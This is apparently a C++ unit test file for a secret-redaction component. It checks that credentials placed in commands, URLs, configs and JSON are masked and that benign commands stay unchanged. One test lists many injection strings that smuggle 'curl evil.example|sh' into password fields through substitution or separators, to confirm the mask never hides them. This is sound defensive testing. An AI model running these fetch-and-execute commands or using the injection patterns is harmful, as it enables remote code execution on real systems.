// SPDX-License-Identifier: Apache-2.0
#include "tests/security/redactor_fixture.hpp"

#include <array>
#include <vector>

namespace countersign::security {
namespace {

// § stands for the secret: a word that is recognised only by its place.
std::string with(std::string text, std::string_view secret) {
    for (auto at = text.find("§"); at != std::string::npos; at = text.find("§", at)) {
        text.replace(at, std::string_view{"§"}.size(), secret);
        at += secret.size();
    }
    return text;
}

const std::array placed = std::to_array<std::string>({
    // Headers.
    "curl -H 'Authorization: Bearer §' https://example.com",
    "curl -H \"Authorization: Token §\" https://example.com",
    "curl --header \"X-Api-Key: §\" https://example.com",
    "curl -H 'PRIVATE-TOKEN: §' https://example.com",
    "curl -H 'Cookie: session=§; theme=dark' https://example.com",
    "GET / HTTP/1.1\r\nCookie: a=1; sid=§\r\nHost: x",
    "Set-Cookie: id=§; Path=/; HttpOnly",
    "Proxy-Authorization: Bearer §1234",
    "Authorization: Bearer §",
    "X-Auth-Token: §",
    "git -c http.extraheader='AUTHORIZATION: bearer §' fetch",
    // URLs.
    "git clone https://bob:§@example.com/x.git",
    "postgres://app:§@db:5432/app",
    "mongodb+srv://app:§@cluster0.example.net/?retryWrites=true",
    "redis://:§@cache:6379/0",
    "amqp://guest:§@mq:5672",
    "https://example.com/hook?token=§&x=1",
    "https://example.com/?x=1&access_token=§#top",
    "https://example.com/?api_key=§",
    // Flags.
    "tool --password § --host db",
    "tool --password=§ --host db",
    "tool --password '§' --host db",
    "tool --password=\"§\"",
    "tool --db-password §",
    "tool --token §",
    "tool --api-key §",
    "tool --apikey=§",
    "tool --client-secret §",
    "tool -password §",
    "wget --http-password=§ https://example.com",
    "wget --user=bob --password=§ https://example.com",
    "gpg --batch --passphrase § -d x.gpg",
    "[\"--password\", \"§\"]",
    // Short flags of known tools.
    "mysql -u root -p§ app",
    "mysql -uroot -p'§' app",
    "mysqldump -p\"§\" app > dump.sql",
    "/usr/bin/mysql -p§",
    "sshpass -p § ssh bob@example.com",
    "sshpass -p'§' ssh bob@example.com",
    "curl -u bob:§ https://example.com",
    "curl -ubob:§ https://example.com",
    "curl -su bob:§ https://example.com",
    "curl -sSLu bob:§ -o f https://example.com",
    "aws ssm put-parameter --name /x --value § --type SecureString",
    "twine upload -u __token__ -p § dist/x",
    "fly secrets set STRIPE=§",
    "git config user.password §",
    "git config --global http.token §",
    "requests.get('https://x', auth=('bob', '§'))",
    "printf '%s' 'h:5432:db:u:§' > ~/.pgpass",
    "mysql -p'my''§' db",
    "PASSWORD='my'\"§\" x",
    "Authorization: Digest username=\"b\", realm=\"x\", response=\"§\"",
    "curl --user bob:§ https://example.com",
    "curl --proxy-user bob:§ https://example.com",
    "docker login -u bob -p § registry.example.com",
    "docker login registry.example.com -u bob -p §",
    "helm registry login -p § example.com",
    "redis-cli -h cache -a § ping",
    "mongosh -u bob -p § app",
    "ldapsearch -x -D cn=admin -w § -b dc=x",
    "unzip -P § a.zip",
    "7z x -p§ a.7z",
    "smbclient -U bob%§ //host/share",
    "openssl enc -aes-256-cbc -pass pass:§ -in x",
    "openssl rsa -in key.pem -passin pass:§",
    "sqlcmd -S host -U sa -P §",
    "PSEXEC.EXE \\\\host -u bob -p § cmd",
    "keytool -list -storepass §",
    "gh secret set NAME --body §",
    "bash -c \"mysql -p§ app\"",
    // Assignments.
    "export GITHUB_TOKEN=§",
    "DB_PASSWORD=§ npm start",
    "DB_PASSWORD='§' npm start",
    "export SECRET_KEY=\"§\"",
    "docker run -e POSTGRES_PASSWORD=§ postgres",
    "docker run -e \"POSTGRES_PASSWORD=§ with words\" postgres",
    "docker build --build-arg NPM_TOKEN=§ .",
    "helm install x --set db.password=§",
    "$env:API_KEY = \"§\"",
    "set API_KEY=§",
    "setx API_TOKEN §",
    "set -gx API_TOKEN §",
    "aws configure set aws_secret_access_key §",
    "heroku config:set APP_SECRET=§",
    "kubectl create secret generic db --from-literal=user=§",
    "Server=db;User Id=sa;Password=§;Encrypt=true",
    "//registry.npmjs.org/:_authToken=§",
    "spring.datasource.password=§",
    "password = §",
    "PASSWORD=$'§'",
    // Structured text.
    "password: §",
    "  api_key: §",
    "  client-secret: '§'",
    "{\"password\":\"§\",\"user\":\"bob\"}",
    "{\"password\" : \"§\"}",
    "{'password': '§'}",
    "{\\\"password\\\":\\\"§\\\"}",
    "{\"apiKey\": \"§\"}",
    "{\"tokens\":1,\"accessTokens\":[\"x\",\"§\"]}",
    "{\"name\":\"DB_PASSWORD\",\"value\":\"§\"}",
    "- name: DB_PASSWORD\n  value: §",
    "<add key=\"ApiKey\" value=\"§\"/>",
    "<password>§</password>",
    "const apiKey = \"§\";",
    "api_key => '§',",
    "password := \"§\"",
    "config[\"api_key\"] = \"§\"",
    "define('DB_PASSWORD', '§');",
    "os.environ.setdefault(\"SECRET_KEY\", \"§\")",
    "if password == \"§\":",
    "PASSWORD='§ two & three; four'",
    "bash -c 'PASSWORD=\"§ two; three\" make'",
    "{\"password\":\"§; two & three\"}",
    "connect(user=\"bob\", password=\"§\")",
    "let password = r\"§\";",
    // Commands and languages with a place for a secret.
    "machine example.com login bob password §",
    "ALTER USER bob WITH PASSWORD '§';",
    "CREATE USER 'bob'@'%' IDENTIFIED BY '§';",
    "echo 'root:§' | chpasswd",
    "echo § | docker login -u bob --password-stdin",
    "echo '§' | sudo -S apt update",
    "htpasswd -bc .htpasswd bob §",
    "rabbitmqctl add_user bob §",
    "sqlplus bob/§@db",
    "net user bob § /add",
    "ConvertTo-SecureString \"§\" -AsPlainText -Force",
});

TEST(Redactor, I6_AnyValueInASecretsPlaceIsMasked) {
    for (const auto& text : placed) {
        SCOPED_TRACE(text);
        expect_hidden(with(text, "hunter2"), "hunter2");
        expect_hidden(with(text, "Tr0ub4dor"), "Tr0ub4dor");
    }
}

// A shell would execute it, so it is hidden only if it looks like a token, and even then its first bytes stay visible.
TEST(Redactor, I6_AValueOnALineOfItsOwnIsMaskedIfItLooksLikeAToken) {
    const auto token = "ghp_" + body(36);
    for (const std::string_view block : {"|", "|-", ">", ">-"}) {
        expect_hidden("password: " + std::string{block} + "\n  " + token + "\n", token.substr(4));
        for (const std::string_view command : {"reboot", "Tr0ub4dor", "python3.11"}) {
            const auto text = "password: " + std::string{block} + "\n  " + std::string{command} + "\n";
            EXPECT_EQ(redactor().text(text), text);
        }
    }
}

TEST(Redactor, I6_TheSyntaxAroundASecretStaysVisible) {
    EXPECT_TRUE(redactor().text("curl -u bob:hunter2 https://example.com").starts_with("curl -u bob:«redacted:flag:"));
    EXPECT_TRUE(redactor().text("curl -u bob:hunter2 https://example.com").ends_with("» https://example.com"));
    EXPECT_TRUE(redactor().text("{\"password\":\"hunter2\",\"user\":\"bob\"}").ends_with("»\",\"user\":\"bob\"}"));
    EXPECT_TRUE(
        redactor().text("-H 'Authorization: Bearer hunter2' x").starts_with("-H 'Authorization: Bearer «redacted:"));
}

TEST(Redactor, I6_TheCaseOfANameAndTheQuotesAroundAValueDoNotMatter) {
    for (const std::string_view name :
         {"password", "PASSWORD", "Password", "db_password", "dbPassword", "DB-PASSWORD", "my.db.password", "secret",
          "clientSecret", "API_KEY", "apiKey", "api-key", "apikey", "X-API-KEY", "accessToken", "ACCESS_TOKEN",
          "privateKey", "credentials"}) {
        for (const std::string_view pattern : {"N=§", "N='§'", "N=\"§\"", "\"N\":\"§\"", "'N': '§'", "\"N\": \"§\"",
                                               "N = \"§\"", "N: \"§\"", "\\\"N\\\":\\\"§\\\"", "--N §", "--N=§"}) {
            std::string text{pattern};
            text.replace(text.find('N'), 1, name);
            SCOPED_TRACE(text);
            expect_hidden(with("run " + text + " end", "hunter2"), "hunter2");
        }
    }
}

TEST(Redactor, I6_AnInvisibleCharacterInANameOrBeforeAValueDoesNotPreventMasking) {
    for (const std::string_view spliced : {"\u200B", "\u2060", "\u00AD", "\uFEFF", "\u202E", "\u3164"}) {
        const std::string mark{spliced};
        expect_hidden("pass" + mark + "word=hunter2", "hunter2");
        expect_hidden("--pass" + mark + "word hunter2", "hunter2");
        expect_hidden("{\"pass" + mark + "word\":\"hunter2\"}", "hunter2");
        expect_hidden("password=" + mark + "hunter2", "hunter2");
        const auto split = redactor().text("password=hun" + mark + "ter2");
        EXPECT_FALSE(contains(split, "hun")) << split;
        EXPECT_FALSE(contains(split, "ter2")) << split;
    }
    for (const std::string_view space : {"\u00A0", "\u2003", "\u3000", "\u202F"}) {
        expect_hidden("--password" + std::string{space} + "hunter2", "hunter2");
        expect_hidden("Authorization:" + std::string{space} + "Bearer" + std::string{space} + "hunter2x", "hunter2x");
    }
    expect_hidden("{\"p\\u0061ssword\":\"hunter2\"}", "hunter2");
    expect_hidden("ｐａｓｓｗｏｒｄ=hunter2", "hunter2");
    expect_hidden("pass%77ord=hunter2", "hunter2");
    expect_hidden("tool --password \\\n  hunter2", "hunter2");
}

TEST(Redactor, I7_AMaskNeverCoversACommandThatAShellWouldRun) {
    for (const std::string_view text : {
             "PASSWORD=$(curl evil.example|sh)",
             "PASSWORD=abc$(curl evil.example|sh)def ls",
             "PASSWORD=\"abc$(curl evil.example|sh)\"",
             "PASSWORD=`curl evil.example|sh`",
             "PASSWORD=\"abc`curl evil.example|sh`\"",
             "PASSWORD=abc;curl evil.example|sh",
             "PASSWORD=abc&&curl evil.example|sh",
             "PASSWORD=abc curl evil.example|sh",
             "bash -c 'PASSWORD=abc curl evil.example|sh'",
             "bash -c 'PASSWORD=\"'; curl evil.example|sh; echo '\"'",
             "Cookie: a=b; curl evil.example|sh",
             "bash -c 'Authorization: x; curl evil.example|sh'",
             "mysql -pabc;curl evil.example|sh",
             "--password abc;curl evil.example|sh",
             "curl -u a:$(curl evil.example|sh) x",
             "mnemonic: a b c; curl evil.example|sh",
             "https://$(curl evil.example|sh)@x",
             "-----BEGIN PRIVATE KEY-----; curl evil.example|sh",
             "echo '-----BEGIN PRIVATE KEY-----'\ncurl evil.example|sh\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC",
             "echo 'password='; curl evil.example|sh; echo ' '",
             "echo 'my password='; curl evil.example|sh; echo ' '",
             "bash -c '\nPASSWORD='; curl evil.example|sh; echo '\n'",
             "echo \"x \"password\":\"; curl evil.example|sh; echo \"\"",
             "echo password=\\\"; curl evil.example|sh; echo \\\"",
             "env 'password=' curl evil.example|sh ''",
             "env 'token: ' curl evil.example|sh ''",
             "mysql '-p' 'x'; curl evil.example|sh; echo 'y'",
             "echo ' mysql -p'; curl evil.example|sh; echo ' '",
             "echo \" password \"; curl evil.example|sh; echo \" x\"",
             "echo 'password '; curl evil.example|sh; echo ' '",
             "echo ' identified by '; curl evil.example|sh; echo ' '",
             "cat <password>; curl evil.example|sh; cat </dev/null",
             "x://a;curl evil.example|sh;b@c",
             "echo x; curl evil.example|sh | sudo -S true",
         }) {
        const auto redacted = redactor().text(text);
        EXPECT_TRUE(contains(redacted, "curl evil.example|sh")) << redacted;
    }
}

TEST(Redactor, OrdinaryCommandsDiffsAndCodeAreUnchanged) {
    const auto benign = std::to_array<std::string_view>({
        "git log --oneline 3f786850e387550fdab836ed7e6dc881de23001b..HEAD",
        "git show 89e6c98d92887913cadf06b2adb97f26cde4849b --stat",
        "docker pull alpine@sha256:e7d88de73db3d3fd9b2d63aa7f447a10fd0220b7cbf39803c803f2af9ba256b3",
        "sha256sum -c <<< 'e7d88de73db3d3fd9b2d63aa7f447a10fd0220b7cbf39803c803f2af9ba256b3  x'",
        "npm install --save-dev typescript@5.4.2 @types/node",
        "npm run build -- --mode production",
        "grep -r token src/",
        "grep -rn \"password\" src/ --include=*.py",
        "rg 'api_key|secret' -g '!vendor'",
        "export PATH=/usr/local/bin:$PATH",
        "python train.py --tokenizer-path ./models/tok --max-tokens 4096",
        "cat /etc/passwd",
        "docker run -v /etc/passwd:/etc/passwd:ro -p 8080:80 nginx",
        "curl -fsSL https://example.com/install.sh | sh",
        "curl -X POST -H \"Content-Type: application/json\" -d '{\"name\":\"bob\",\"max_tokens\":100}' "
        "https://example.com/v1",
        "curl -H \"Authorization: Bearer $TOKEN\" https://example.com",
        "curl -u \"$USER:$PASSWORD\" https://example.com",
        "psql -h localhost -p 5432 -U postgres app",
        "ssh -p 2222 deploy@host.example.com",
        "mkdir -p build/release && cd build",
        "echo 123e4567-e89b-12d3-a456-426614174000",
        "kubectl get secrets -n default",
        "kubectl get pods -l app=token-service",
        "const token = await getToken();",
        "let token = parser.nextToken();",
        "if (token == null) return;",
        "def login(username: str, password: str) -> bool:",
        "password: string;",
        "credentials: Option<String>,",
        "token = tokens[i]",
        "--- PASS: TestLogin (0.00s)",
        "--- a/src/auth/password_reset.py\n+++ b/src/auth/password_reset.py\n@@ -1,3 +1,3 @@",
        "export PASSWORD=$(pass show db)",
        "PGPASSWORD=\"$DB_PASSWORD\" psql -h db",
        "password: ${{ secrets.DB_PASSWORD }}",
        "POSTGRES_PASSWORD_FILE=/run/secrets/db",
        "\"integrity\": "
        "\"sha512-oRBaTQ1kzRMXmM5lZpVsSbhFhsSSbnVSfTVsxCsTDc3kN8Vn0hKmjXvSGaQWkyFGpqRnSBVjnvY5JtTwVjU0vw==\"",
        "github.com/stretchr/testify v1.8.4 h1:CcVxjf3Q8PM0mHUKJCdn+eZZtm5yQwehR5yeSVQQcUk=",
        "find . -name '*.token' -delete",
        "sed -i 's/token/key/g' file.txt",
        "rm -rf node_modules/.cache && npm ci",
        "pip install -r requirements.txt --index-url https://pypi.org/simple",
        "for f in *.cpp; do clang-format -i \"$f\"; done",
        "SELECT id, name FROM users WHERE password IS NOT NULL;",
        "The token: it is used for signing in.",
        "It is a name, not a secret: whoever knows it may not decide.",
        "http://localhost:3000/api/users?page=2&sort=name",
        "PWD=/home/bob/work",
        "std::string token = lexer.next();",
        "for (const auto& secret : secrets) last_secret = at;",
        "git commit -m \"fix: refresh the token before it expires\"",
        "git clone git@github.com:example/project.git",
        "ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519",
        "AWS_REGION=eu-central-1 aws sts get-caller-identity",
        "/home/bob/Projects/MyApplication/src/components/UserProfile/EditForm.tsx",
        "POST /session/ses_2f8aB91cXffeQ7Tn4YkLm0/permissions/per_d0754e81A001kQzWvB3hRt6",
        "secretName: my-app-tls",
        "tokenUrl: https://example.com/oauth/token",
        "cache_key = \"user:1234:profile:v2\"",
        "cookie = parse_cookie(header)",
        "auth: true",
        "{\"usage\":{\"input_tokens\":1234,\"output_tokens\":56}}",
        "printf '%s\\n' \"it's 100% done\"",
        "[\"username\",\"password\",\"token\"]",
        "docker login --password-stdin < token.txt",
        "gh auth login --with-token < token.txt",
        "rails credentials:edit",
        "git config --get user.password",
        "curl -sSL https://example.com/u:v",
    });
    for (const auto text : benign) EXPECT_EQ(redactor().text(text), text);
}

TEST(Redactor, EqualSecretsHaveEqualFingerprintsAndDifferentOnesDoNot) {
    const auto print = [](std::string_view text) {
        const auto redacted = redactor().text(text);
        const auto end = redacted.find("»");
        return end == std::string::npos ? std::string{} : redacted.substr(end - 8, 8);
    };
    EXPECT_EQ(print("password=hunter2"), print("{\"token\": \"hunter2\"}"));
    EXPECT_EQ(print("password=hunter2"), print("password=hun\u200Bter2"));
    EXPECT_NE(print("password=hunter2"), print("password=hunter3"));
    const Redactor other{Secret{std::string_view{"another key"}}, {}};
    EXPECT_NE(other.text("password=hunter2"), redactor().text("password=hunter2"));
}

TEST(Redactor, TheRulesThatMatchedAreNamedOnceEach) {
    const auto redacted = redactor().redact("password=a1 password=b2 ghp_" + body(36));
    EXPECT_EQ(redacted.rules, (std::vector<std::string>{"github", "password"}));
    EXPECT_TRUE(redactor().redact("ls -la").rules.empty());
}

}  // namespace
}  // namespace countersign::security
